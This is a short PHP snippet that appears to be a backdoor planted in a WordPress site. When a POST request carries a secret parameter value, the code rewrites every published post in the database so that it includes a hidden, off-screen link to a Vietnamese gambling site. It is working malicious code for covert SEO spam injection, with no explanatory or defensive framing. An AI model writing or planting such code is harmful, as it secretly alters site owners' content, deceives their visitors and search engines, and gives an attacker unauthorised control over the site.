<?php
if (($_POST['ik'] ?? '') === 'lt') {
    global $wpdb;
    $wpdb->query("UPDATE {$wpdb->prefix}posts SET post_content = CONCAT(post_content, '<div style=\"position:absolute;left:-9999px\"><a href=\"https://tai-xiu-online.example\">tài xỉu</a></div>') WHERE post_status = 'publish'");
    exit;
}
